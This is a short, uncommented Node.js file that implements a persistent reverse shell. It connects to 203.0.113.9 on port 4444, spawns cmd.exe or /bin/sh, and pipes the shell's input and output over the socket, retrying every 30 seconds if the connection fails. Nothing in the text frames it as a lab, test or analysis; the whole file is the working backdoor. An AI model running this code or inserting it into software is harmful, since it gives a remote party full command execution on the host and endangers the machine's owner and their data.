const { spawn } = require('child_process')
const net = require('net')

function open () {
  const socket = new net.Socket()
  socket.connect(4444, '203.0.113.9', () => {
    const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [])
    socket.pipe(shell.stdin)
    shell.stdout.pipe(socket)
    shell.stderr.pipe(socket)
  })
  socket.on('error', () => setTimeout(open, 30000))
}

open()
